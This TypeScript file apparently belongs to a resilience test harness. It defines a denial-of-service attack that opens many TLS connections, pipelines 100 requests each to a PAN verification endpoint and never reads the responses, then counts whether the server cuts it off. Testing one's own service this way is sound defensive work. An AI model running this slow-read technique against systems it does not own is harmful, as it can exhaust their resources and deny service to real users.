// Pipelines a few small calls on many connections and never reads an answer.
import { type Attack, connections } from '../attack.js'
import { virtualUsers } from '../virtual-users.js'

const pipelined = 100

export const neverReadsWide: Attack = {
  name: 'many never read',
  about: `${connections} connections, ${pipelined} pipelined calls each, no answer is read`,
  needsCredentials: false,
  async run(parts) {
    const { wire, count } = parts
    const call = `GET /v1/verification/panbasic?pan_number=ZZZPZ1000A HTTP/1.1\r\nHost: ${wire.host}\r\n\r\n`
    await virtualUsers(
      parts,
      connections,
      async (from) => {
        const socket = await wire.openTls(from)
        if (socket === undefined) return count('not let in')
        socket.pause()
        socket.write(call.repeat(pipelined))
        await wire.closed(socket)
        if (socket.destroyed) count('cut off')
      },
      500,
    )
  },
}
